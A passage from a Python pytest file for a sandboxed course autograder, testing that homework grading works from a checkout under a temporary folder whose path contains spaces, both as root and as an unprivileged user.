    assert results[0].status.startswith("grader failure, not graded: no kernel started"), results[0].status
    assert results[0].total is None and not results[0].scored


def _copy_checkout(target: Path) -> Path:
    """This checkout's grader and homework, copied as a clone would lay them out (the venv stays put)."""
    for part in ("book", "autograder", "homework"):
        shutil.copytree(REPO / part, target / part, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    return target


def _reachable_by_others(path: Path) -> bool:
    """Every folder above ``path`` can be traversed by any user (a Python under /root usually cannot)."""
    return all(os.stat(p).st_mode & 0o001 for p in Path(path).resolve().parents)


@needs_bwrap
@pytest.mark.parametrize("user", ["this user", "a normal user"])
def test_grading_works_from_a_checkout_under_a_temporary_folder_with_spaces(tmp_path, user):
    """Finding 2 of issue 22: a checkout under /tmp had its Python and book/ hidden by the sandbox's /tmp."""
    if user == "a normal user" and (os.geteuid() != 0 or not _reachable_by_others(Path(sys.executable))):
        pytest.skip("needs root to switch users, and a Python that other users can reach (this one is "
                    f"under {Path(sys.executable).resolve().parents[2]}); the sandbox's own path for non-root "
                    "graders is run by every other test when they run as a normal user")
    base = tmp_path / "a folder with spaces"
    checkout = _copy_checkout(base / "checkout")
    assert str(checkout).startswith(tempfile_root())
    folder = write_folder(base / "my subs", {"alice": solution("hw1_alexnet")})
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    prefix = []
    if user == "a normal user":
        os.chmod(tmp_path, 0o777)
        for path in [base, *base.rglob("*")]:
            os.chmod(path, 0o777 if path.is_dir() else 0o666)
        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        env["HOME"] = str(base)
    where = subprocess.run([*prefix, sys.executable, "-c", "import autograder; print(autograder.__file__)"],
                           cwd=checkout, capture_output=True, text=True, env=env)
    assert where.stdout.strip() == str(checkout / "autograder" / "__init__.py"), where.stderr
    done = subprocess.run([*prefix, sys.executable, "-m", "autograder", "grade", "hw1_alexnet", str(folder),
                           "--out", str(base / "grades out")], cwd=checkout, capture_output=True, text=True,
                          env=env, timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    result = json.loads((base / "grades out" / "results" / "alice.json").read_text())
    assert result["total"] == attacks.full_marks() and result["status"] == "ok", result["status"]


def tempfile_root() -> str:
    import tempfile
    return tempfile.gettempdir()
